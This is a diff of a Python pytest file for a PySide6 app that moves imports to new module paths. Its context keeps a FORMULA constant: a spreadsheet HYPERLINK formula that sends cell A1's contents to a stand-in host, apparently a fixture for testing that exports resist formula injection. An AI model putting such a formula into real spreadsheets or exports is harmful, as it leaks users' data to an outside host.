@@ -17,14 +17,14 @@ import pytest
 from PySide6.QtCore import Qt
 from pytestqt.qtbot import QtBot
 
-from app.db import Store
 from app.models.enums import Role
-from app.services import taxonomy
-from app.services.auth import SessionUser
+from app.services.contacts import taxonomy
+from app.services.guard.auth import SessionUser
+from app.store.db import Store
 from tests.conftest import make_user
-from tests.services.test_aid import admin_of
-from tests.services.test_statistics import Logged, log
-from tests.ui.test_statistics_page import open_page, save_as, show
+from tests.services.aid.test_decisions import admin_of
+from tests.services.statistics.test_figures import Logged, log
+from tests.ui.statistics.test_statistics_page import open_page, save_as, show
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Abi")'
 
